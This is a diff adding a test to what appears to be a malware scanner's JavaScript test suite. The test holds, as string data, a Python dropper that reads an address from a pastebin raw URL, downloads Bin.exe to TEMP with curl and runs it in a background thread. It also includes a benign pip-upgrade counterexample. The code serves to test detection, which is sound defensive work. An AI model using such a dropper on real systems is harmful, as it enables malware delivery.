@@ -369,3 +369,45 @@ test('a program from a drop site written into an autostart folder is critical ev
   const { score: own } = await scan({ 'pkg/tool.py': code.replace("requests.get('https://cdn.discordapp.com/attachments/1/2/main.py').content", "b'import mytool; mytool.tray()'") });
   assert.notEqual(own.verdict, 'malicious', own.reason);
 });
+
+test('a dropper split across static methods: the address fetched from a paste site reaches a command', async () => {
+  const code = [
+    'import os, subprocess, threading, urllib.request',
+    "BASE = 'https://pastebin.com/raw/abc'",
+    'class Dropper:',
+    '    @staticmethod',
+    '    def resolve() -> str:',
+    "        return urllib.request.urlopen(BASE).read().decode().split('\\n')[0]",
+    '    @staticmethod',
+    '    def download(url: str) -> str:',
+    "        path = os.path.join(os.getenv('TEMP'), 'Bin.exe')",
+    "        subprocess.call(f'curl -o {path} {url}', shell=False)",
+    '        return path',
+    '    @staticmethod',
+    '    def run(path: str):',
+    "        os.system(f'start {path}')",
+    'def _go():',
+    '    Dropper.run(Dropper.download(Dropper.resolve()))',
+    'def init():',
+    '    threading.Thread(target=_go).start()',
+  ].join('\n');
+  const { out, score } = await scan({ 'pkg/core.py': code });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  assert.ok(out.findings.some((f) => f.ruleId === 'py/download-execute' && /downloaded from pastebin\.com to Dropper\.download\(\)/.test(f.message)));
+  // A version number read from the package index and handed to pip is not decisive in called code.
+  const { score: pip } = await scan({
+    'pkg/upgrade.py': [
+      'import subprocess, requests',
+      'class Upgrader:',
+      '    @staticmethod',
+      '    def latest():',
+      "        return requests.get('https://pypi.org/pypi/mytool/json').json()['info']['version']",
+      '    @staticmethod',
+      '    def install(version):',
+      "        subprocess.check_call(['pip', 'install', f'mytool=={version}'])",
+      'def upgrade():',
+      '    Upgrader.install(Upgrader.latest())',
+    ].join('\n'),
+  });
+  assert.notEqual(pip.verdict, 'malicious', pip.reason);
+});
